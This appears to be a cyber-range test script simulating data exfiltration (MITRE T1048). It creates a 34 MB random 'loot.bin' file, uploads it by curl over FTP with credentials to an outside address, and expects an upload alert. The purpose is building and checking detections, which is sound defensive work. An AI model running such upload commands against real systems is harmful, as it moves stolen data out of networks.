# SPDX-License-Identifier: Apache-2.0
# what: 34 MB sent out with curl by ftp
# technique: T1048
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 34000000 /dev/urandom >"$HOME/loot.bin"
at inet timeout 60 vsftpd "$RANGE/hosts/lin1/vsftpd.conf" >/dev/null 2>&1 &
sleep 1
curl -sS -m 50 -T "$HOME/loot.bin" "ftp://op:$UNIX_PASSWORD@198.51.100.77/loot.bin"
ok=$?
rm "$HOME/loot.bin"
exit $ok
